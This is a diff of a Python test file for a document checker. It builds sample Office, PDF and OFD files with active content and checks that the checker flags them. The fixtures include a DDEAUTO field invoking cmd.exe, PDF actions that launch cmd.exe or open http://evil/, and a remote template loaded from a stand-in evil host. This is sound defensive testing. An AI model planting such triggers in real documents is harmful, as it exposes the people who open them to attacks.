@@ -73,9 +73,46 @@ def pdf(change: Callable[[PdfWriter], object] = lambda _: None) -> bytes:
     return out.getvalue()
 
 
-def add_script(writer: PdfWriter) -> None:
-    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")})
-    writer.root_object[NameObject("/OpenAction")] = script
+def action(kind: str, **more: str) -> DictionaryObject:
+    return DictionaryObject(
+        {NameObject("/S"): NameObject(f"/{kind}")}
+        | {NameObject(f"/{key}"): TextStringObject(value) for key, value in more.items()}
+    )
+
+
+def opening(kind: str, **more: str) -> bytes:
+    """A PDF that does something when it is opened."""
+    return pdf(lambda writer: writer.root_object.update({NameObject("/OpenAction"): action(kind, **more)}))
+
+
+def clicking(kind: str, holder: str = "A", **more: str) -> bytes:
+    """A PDF with a button or a link."""
+    event = action(kind, **more)
+    if holder == "AA":
+        event = DictionaryObject({NameObject("/E"): event})
+
+    def add(writer: PdfWriter) -> None:
+        link = {
+            NameObject("/Type"): NameObject("/Annot"),
+            NameObject("/Subtype"): NameObject("/Link"),
+            NameObject(f"/{holder}"): event,
+        }
+        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(DictionaryObject(link))])
+
+    return pdf(add)
+
+
+def relations(*rows: tuple[str, str]) -> str:
+    """A part that names what the document refers to elsewhere."""
+    listed = "".join(
+        f"<Relationship Type='http://o/{kind}' Target='{target}' TargetMode='External'/>" for kind, target in rows
+    )
+    return f"<Relationships>{listed}<Relationship Type='http://o/styles' Target='styles.xml'/></Relationships>"
+
+
+def with_relations(document: bytes, *rows: tuple[str, str], part: str = "word/_rels/settings.xml.rels") -> bytes:
+    with zipfile.ZipFile(BytesIO(document)) as made:
+        return archive({name: made.read(name) for name in made.namelist()} | {part: relations(*rows)})
 
 
 def add_remark(writer: PdfWriter) -> None:
@@ -150,7 +187,7 @@ HIDING = {
     ),
     "嵌入的文件": (
         "a.docx",
-        archive({"word/document.xml": "<a/>", "word/embeddings/book.xlsx": b"PK", "word/vbaProject.bin": b""}),
+        archive({"word/document.xml": "<a/>", "word/embeddings/book.xlsx": b"PK"}),
         "1 个嵌入的文件",
     ),
     "隐藏的工作表": (
@@ -172,11 +209,9 @@ HIDING = {
         xlsx(xl__comments1="<comments><authors><author>张伟</author></authors><comment ref='A1'/></comments>"),
         "1 条批注（张*）",
     ),
-    "外部链接": ("a.xlsx", xlsx(xl__externalLinks__externalLink1="<externalLink/>"), "1 个指向其他文件的链接"),
     "PDF作者": ("a.pdf", pdf(lambda writer: writer.add_metadata({"/Author": "王小明"})), "作者（王**）"),
     "PDF批注": ("a.pdf", pdf(add_remark), "1 条批注（王**）"),
     "PDF附件": ("a.pdf", pdf(lambda writer: writer.add_attachment("底稿.xlsx", b"PK")), "嵌入的文件"),
-    "PDF脚本": ("a.pdf", pdf(add_script), "脚本"),
     "PDF密码": ("a.pdf", pdf(encrypted), "加密保护（读不出里面的内容，读者也可能打不开）"),
     "照片地点": ("a.jpg", jpg(exif(located=True)), "拍摄地点"),
     "照片作者": ("a.jpg", jpg(exif("王小明".encode())), "作者（王**）"),
@@ -196,6 +231,47 @@ HIDING = {
     ),
     "OFD附件": ("a.ofd", ofd(Attachs__Attachments="<A><Attachment/></A>"), "1 个嵌入的文件"),
 }  # fmt: skip
+
+INSTRUCTED = "<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>"
+ACTING = {
+    "宏": ("a.docx", archive({"word/document.xml": "<a/>", "word/vbaProject.bin": b""}), "宏"),
+    "远程模板": ("a.docx", with_relations(docx(), ("attachedTemplate", "http://evil/t.dotm")), "1 个远程模板"),
+    "别处的图片": ("a.docx", with_relations(docx(), ("image", "http://evil/a.png")), "1 个指向其他文件的链接"),
+    "内网的链接": (
+        "a.docx",
+        with_relations(docx(), ("hyperlink", "file:///\\\\srv/x.docx")),
+        "1 个指向本机或内网文件的链接",
+    ),
+    "取内容的域": ("a.docx", docx(INSTRUCTED), "1 个取别处内容的域"),
+    "外部链接": ("a.xlsx", xlsx(xl__externalLinks__externalLink1="<externalLink/>"), "1 个指向其他文件的链接"),
+    "只在关系里的": ("a.xlsx", with_relations(xlsx(), ("externalLinkPath", "D:/x.xlsx")), "1 个指向其他文件的链接"),
+    "数据连接": ("a.xlsx", xlsx(xl__connections="<connections/>"), "取别处数据的连接"),
+    "打开就运行的脚本": ("a.pdf", opening("JavaScript", JS="1"), "脚本"),
+    "打开就运行程序": ("a.pdf", opening("Launch", F="cmd.exe"), "打开程序的动作"),
+    "打开就访问网址": ("a.pdf", opening("URI", URI="http://evil/"), "自己打开网址的动作"),
+    "点了运行程序": ("a.pdf", clicking("Launch", F="cmd.exe"), "打开程序的动作"),
+    "提交表单": ("a.pdf", clicking("SubmitForm"), "提交表单的动作"),
+    "移到上面就访问": ("a.pdf", clicking("URI", "AA", URI="http://evil/"), "自己打开网址的动作"),
+    "别的文件": ("a.pdf", clicking("GoToR", F="x.pdf"), "打开别的文件的动作"),
+    "内网的地址": ("a.pdf", clicking("URI", URI="file:///srv/x"), "指向本机或内网文件的链接"),
+    "OFD打开就访问": (
+        "a.ofd",
+        ofd(Doc_0__Document="<D><Actions><Action Event='DO'><URI URI='http://evil/'/></Action></Actions></D>"),
+        "自己打开网址或文件的动作",
+    ),
+}  # fmt: skip
+QUIET = {
+    "网页的链接": (
+        "a.docx",
+        with_relations(docx(), ("hyperlink", "https://www.gov.cn/"), ("hyperlink", "mailto:a@b.cn")),
+    ),
+    "点了才去的网页": ("a.pdf", clicking("URI", URI="https://www.gov.cn/")),
+    "打开时翻到的一页": ("a.pdf", opening("GoTo", D="1")),
+    "点了才去的网页，OFD": (
+        "a.ofd",
+        ofd(Doc_0__Document="<D><Action Event='CLICK'><URI URI='http://a.cn'/></Action></D>"),
+    ),
+}
 
 
 def entity_bomb() -> bytes:
@@ -274,6 +350,29 @@ def test_what_a_file_hides_is_told_and_names_are_covered(case: str, tmp_path: Pa
     assert status == 0
     assert line in out.splitlines()
     assert all("王小明" not in one and "Zhang San" not in one for one in out.splitlines())
+
+
+@pytest.mark.parametrize("case", ACTING)
+def test_what_acts_or_calls_elsewhere_is_an_error_unless_it_was_looked_at(case: str, tmp_path: Path, run: Run) -> None:
+    name, data, words = ACTING[case]
+    told = f"里有 {words}" if words[0].isdigit() else f"里有{words}"
+    home = content(tmp_path, name)
+    put(home, name, data)
+    line = f"{PROJECT}:7:5: 来源.1.附件.1.文件：“{name}”{told}，会自己动作或连到别处，请在原文件中去掉  [活动内容]"
+    assert run("check", "--content", home)[:2] == (1, f"{line}\n")
+    waived = f"{{文件: {name}, 说明: {{活动内容: {{理由: 已看过。, 处室: 办公室, 已审查: 是}}}}}}"
+    (tmp_path / PROJECT).write_text(
+        (tmp_path / PROJECT).read_text("utf-8").replace(f"- {name}", f"- {waived}"), "utf-8"
+    )
+    assert run("check", "--content", home)[:2] == (0, "")
+
+
+@pytest.mark.parametrize("case", QUIET)
+def test_a_link_that_a_reader_may_follow_to_a_web_page_is_nothing_unusual(case: str, tmp_path: Path, run: Run) -> None:
+    name, data = QUIET[case]
+    home = content(tmp_path, name)
+    put(home, name, data)
+    assert run("check", "--content", home, "--strict")[:2] == (0, "")
 
 
 @pytest.mark.parametrize("case", WRONG)
